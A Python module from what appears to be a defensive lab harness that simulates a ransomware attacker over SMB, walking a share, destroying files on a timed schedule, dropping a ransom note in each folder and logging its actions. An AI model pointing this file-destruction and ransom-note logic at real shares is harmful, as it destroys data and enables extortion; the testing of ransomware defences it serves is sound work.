"""One connection of the night's attacker, on a workstation of the lab: destroys files over SMB and logs its own truth.

Comes in: a `Task` as JSON on the first line of standard input, then a line `go TIME`. Goes out: `ready FILES` on
standard output once it has a session and has found its files, and in the log, a line each:

* `s NUMBER AT PATH` before a file's first destructive request,
* `w NUMBER AT` when the server confirmed that request, `f NUMBER AT` when the file is done with, `x NUMBER AT` when
  it failed,
* `n 0 AT PATH` when the ransom note was left in a folder,
* `d NUMBER AT` when the connection itself was refused and it gave up.

AT is CLOCK_MONOTONIC. It finds its files by listing the share, as an attacker does, in an order of the seed's; file
NUMBER is this connection's if NUMBER mod connections is its own, and due at NUMBER / rate. It lets its handles stay
open at the end and waits to be ended. It talks to the lab's addresses only (`smb_client`), and destroys nothing that
lies in `spared`.
"""

from __future__ import annotations

import os
import random
import sys
import time

import msgspec

from garde.lab.attackers.smb_client import SmbShare
from garde.lab.attackers.smb_hits import HITS

PASSWORD = "GARDE_SMB_PASSWORD"  # noqa: S105 - the name of a variable, so that no password stands in argv
# Failures in a row after which an attacker knows that it is thrown out. A request to a server that drops every packet
# takes libsmbclient's time-out (20 s) each.
GIVE_UP = 3


class Task(msgspec.Struct, frozen=True):
    """What one connection does."""

    server: str
    share: str
    login: str
    mode: str
    ending: str
    note_name: str
    note: str
    rate: float  # files a second, of all connections to this server together
    own: int
    connections: int
    files: int  # how many of the share's files are attacked at most
    seed: int
    spared: tuple[str, ...]  # folders whose files are being written by others
    log: str


class Log:
    """The attacker's own log, one write a line, so that a killed process leaves whole lines."""

    def __init__(self, path: str) -> None:
        self._handle = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_APPEND, 0o600)

    def __call__(self, what: str, number: int, path: str = "") -> None:
        line = f"{what} {number} {time.monotonic():.6f}" + (f" {path}" if path else "")
        os.write(self._handle, os.fsencode(line) + b"\n")


class Attack:
    """One connection at work."""

    def __init__(self, share: SmbShare, task: Task, log: Log) -> None:
        self._share, self._task, self._log = share, task, log
        self._hit = HITS[task.mode]
        self._noted: set[str] = set()
        self._failed = 0

    def find(self) -> list[str]:
        """The files to be attacked, folder by folder as a walking program meets them; the seed orders the folders."""
        found = [
            path for path in self._share.walk() if not path.startswith(tuple(f"{it}/" for it in self._task.spared))
        ]
        folders = sorted({path.rpartition("/")[0] for path in found})
        random.Random(self._task.seed).shuffle(folders)
        place = {folder: number for number, folder in enumerate(folders)}
        found.sort(key=lambda path: (place[path.rpartition("/")[0]], path))
        return found[: self._task.files]

    def run(self, paths: list[str], start: float) -> None:
        """Destroy each file of its own when it is due; goes on past single failures."""
        for number, path in list(enumerate(paths))[self._task.own :: self._task.connections]:
            due = start + (number / self._task.rate if self._task.rate else 0.0)
            time.sleep(max(0.0, due - time.monotonic()))
            self._take(number, path)
            if self._failed >= GIVE_UP:
                self._log("d", number)
                return

    def _take(self, number: int, path: str) -> None:
        self._log("s", number, path)
        confirmed = False

        def confirm() -> None:
            nonlocal confirmed
            if not confirmed:
                confirmed = True
                self._log("w", number)

        try:
            self._hit(self._share, path, self._task.ending, confirm)
            self._leave_note(path.rpartition("/")[0])
        except OSError:
            self._log("x", number)
            self._failed += 1
        else:
            self._log("f", number)
            self._failed = 0

    def _leave_note(self, folder: str) -> None:
        if folder not in self._noted:
            self._noted.add(folder)
            where = f"{folder}/{self._task.note_name}" if folder else self._task.note_name
            self._share.write(where, self._task.note.encode())
            self._log("n", 0, where)


def main() -> int:
    """Attack as the task says."""
    task = msgspec.json.decode(sys.stdin.readline(), type=Task)
    with SmbShare(task.server, task.share, task.login, os.environ.get(PASSWORD, "")) as share:
        attack = Attack(share, task, Log(task.log))
        paths = attack.find()
        print(f"ready {len(paths)}", flush=True)
        start = float(sys.stdin.readline().split()[1])
        attack.run(paths, start)
        sys.stdin.read()  # until the night ends it
    return 0


if __name__ == "__main__":
    sys.exit(main())
